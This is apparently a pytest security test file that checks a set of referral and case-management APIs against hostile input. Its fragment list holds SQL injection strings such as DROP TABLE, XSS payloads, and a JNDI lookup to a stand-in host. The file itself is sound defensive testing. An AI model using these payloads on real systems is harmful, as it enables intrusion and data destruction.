"""Hostile input: oversized, deeply nested, invalid UTF-8, unknown fields, SQL and script fragments — never a 5xx.

Text is stored verbatim (bound parameters, no escaping on the way in) and comes back as a JSON string
(escaped by the serialiser, served as application/json), so it can neither change a query nor run in a page.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from tests.cases.conftest import family_body
from tests.referrals.conftest import maternity_payload, partner
from tests.security.conftest import SecurityWorld
from tests.support.factories import upn as make_upn

FRAGMENTS = (
    "Robert'); DROP TABLE referrals;--",
    "' OR '1'='1' -- ",
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "Zoë \\u0000 ' \" \\ `; SELECT pg_sleep(10);",
)
MEBIBYTE = 1_048_576


def problem(response: httpx.Response) -> None:
    assert response.status_code < 500, response.text
    assert response.headers["content-type"].startswith("application/problem+json"), response.headers


@pytest.fixture
def targets(
    referrals: httpx.AsyncClient, cases: httpx.AsyncClient, outcomes: httpx.AsyncClient, world: SecurityWorld
) -> list[tuple[httpx.AsyncClient, str, dict[str, str]]]:
    """One write endpoint per service, with a caller allowed to use it."""
    from tests.support import auth, make_token

    return [
        (referrals, "/v1/referrals/maternity", {**partner(), "Idempotency-Key": uuid.uuid4().hex}),
        (cases, "/v1/families", world.manager()),
        (outcomes, "/v1/evaluations", auth(make_token("analyst", agency="LCC", agency_type="council"))),
    ]


async def test_oversized_bodies_are_413(targets: list[tuple[httpx.AsyncClient, str, dict[str, str]]]) -> None:
    big = b'{"reason": "' + b"x" * (MEBIBYTE + 10) + b'"}'
    for client, url, headers in targets:
        declared = await client.post(url, content=big, headers={**headers, "content-type": "application/json"})
        assert declared.status_code == 413, (url, declared.status_code)
        problem(declared)

        async def chunks() -> AsyncIterator[bytes]:
            for start in range(0, len(big), 65536):
                yield big[start : start + 65536]

        # Without a Content-Length the limit trips while streaming; FastAPI's body parser turns that into a
        # 400 today (finding F6, tests/security/test_findings.py) — refused either way, never read past the limit.
        streamed = await client.post(url, content=chunks(), headers={**headers, "content-type": "application/json"})
        assert streamed.status_code in (400, 413), (url, "chunked", streamed.status_code)
        problem(streamed)


async def test_deeply_nested_json_is_refused(targets: list[tuple[httpx.AsyncClient, str, dict[str, str]]]) -> None:
    for depth in (1_000, 100_000):
        body = b'{"reason": ' + b"[" * depth + b"]" * depth + b"}"
        for client, url, headers in targets:
            response = await client.post(url, content=body, headers={**headers, "content-type": "application/json"})
            assert response.status_code in (400, 413, 422), (url, depth, response.status_code, response.text[:200])
            problem(response)


async def test_invalid_utf8_and_malformed_json(targets: list[tuple[httpx.AsyncClient, str, dict[str, str]]]) -> None:
    bodies = (b'{"reason": "\xff\xfe\xc3\x28"}', b"\xef\xbb\xbf{", b'{"a": 1,}', b"\x00" * 64, b"null", b"[]", b"")
    for client, url, headers in targets:
        for body in bodies:
            response = await client.post(url, content=body, headers={**headers, "content-type": "application/json"})
            assert response.status_code in (400, 422), (url, body, response.status_code, response.text[:200])
            problem(response)
        wrong_type = await client.post(url, content=b"<x/>", headers={**headers, "content-type": "application/xml"})
        assert wrong_type.status_code in (400, 415, 422)
        problem(wrong_type)


async def test_unknown_fields_are_refused(referrals: httpx.AsyncClient, cases: httpx.AsyncClient,
                                          world: SecurityWorld) -> None:  # fmt: skip
    """Mass assignment (API3): a client cannot set the status, hub or owner of what it creates."""
    for extra in ({"status": "accepted"}, {"hub": "south"}, {"agency": "MAT-OTHER"}, {"id": str(uuid.uuid4())}):
        response = await referrals.post(
            "/v1/referrals/maternity",
            json=maternity_payload(**extra),
            headers={**partner(), "Idempotency-Key": uuid.uuid4().hex},
        )
        assert response.status_code == 422, (extra, response.text)
        assert any(e["pointer"].endswith(next(iter(extra))) for e in response.json()["errors"]), response.text
    response = await cases.post(
        f"/v1/cases/{world.ids['case_id']}/contacts",
        json={"kind": "visit", "occurred_at": "2026-01-05T10:00:00Z", "note": "n", "recorded_by": "someone-else"},
        headers=world.lead(),
    )
    assert response.status_code == 422, response.text


def _strings(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for value in node.values() for s in _strings(value)]
    if isinstance(node, list):
        return [s for value in node for s in _strings(value)]
    return []


def _set(body: dict[str, Any], path: tuple[str | int, ...], value: str) -> dict[str, Any]:
    copy: Any = json.loads(json.dumps(body))
    node = copy
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return dict(copy)


MATERNITY_TEXT = (
    ("reason",), ("referrer", "name"), ("referrer", "role"), ("consent", "given_by"),
    ("expectant_parent", "given_name"), ("expectant_parent", "family_name"), ("expectant_parent", "address"),
    ("other_parent", "family_name"), ("children", 0, "given_name"),
)  # fmt: skip


async def test_sql_and_script_fragments_are_stored_verbatim(
    referrals: httpx.AsyncClient, cases: httpx.AsyncClient, world: SecurityWorld
) -> None:
    stored = 0
    for path in MATERNITY_TEXT:
        for fragment in FRAGMENTS:
            body = _set(maternity_payload(), path, fragment)
            response = await referrals.post(
                "/v1/referrals/maternity", json=body, headers={**partner(), "Idempotency-Key": uuid.uuid4().hex}
            )
            assert response.status_code in (201, 422), (path, fragment, response.text)
            if response.status_code == 422:
                problem(response)
                continue
            stored += 1
            again = await referrals.get(f"/v1/referrals/{response.json()['id']}", headers=partner())
            assert again.status_code == 200
            assert again.headers["content-type"] == "application/json"
            assert fragment in set(_strings(again.json())), (path, fragment)
            assert json.dumps(fragment, ensure_ascii=False)[1:-1] in again.text, "not JSON-escaped"
    assert stored >= len(FRAGMENTS) * 3, "free-text fields (reason, address, referrer role) must accept any text"
    # the table the fragments aimed at is still there, with every referral in it
    listed = await referrals.get("/v1/referrals", params={"limit": 100}, headers=partner())
    assert listed.status_code == 200 and len(listed.json()["items"]) >= min(stored, 100)

    for i, fragment in enumerate(FRAGMENTS):
        response = await cases.post(
            f"/v1/cases/{world.ids['case_id']}/contacts",
            json={"kind": "visit", "occurred_at": "2026-01-05T10:00:00Z", "note": fragment},
            headers=world.lead(),
        )
        assert response.status_code == 201, response.text
        family = await cases.post(
            "/v1/families",
            json=family_body(family_name=fragment[:100], upn=make_upn(90_000 + i)),
            headers=world.manager(),
        )
        assert family.status_code in (201, 422), family.text
        if family.status_code == 201:
            assert family.json()["name"] == f"{fragment[:100]} family".strip()
    notes = await cases.get(f"/v1/cases/{world.ids['case_id']}/contacts", headers=world.lead())
    assert {c["note"] for c in notes.json()["items"]} >= {f.strip() for f in FRAGMENTS}


async def test_too_many_ids_and_bad_cursors_are_422(
    referrals: httpx.AsyncClient, cases: httpx.AsyncClient, world: SecurityWorld
) -> None:
    ids = ",".join(str(uuid.uuid4()) for _ in range(101))
    for client, url, headers in (
        (referrals, "/v1/referrals", partner()),
        (cases, "/v1/families", world.manager()),
        (cases, "/v1/people", world.manager()),
    ):
        for params in ({"ids": ids}, {"ids": "1' OR '1'='1"}, {"cursor": "'; DROP TABLE x;--"}):
            response = await client.get(url, params=params, headers=headers)
            assert response.status_code in (200, 422), (url, params, response.text)
            if "OR" in params.get("ids", "") or len(params.get("ids", "")) > 3000 or "cursor" in params:
                assert response.status_code == 422, (url, params)
            problem(response) if response.status_code == 422 else None
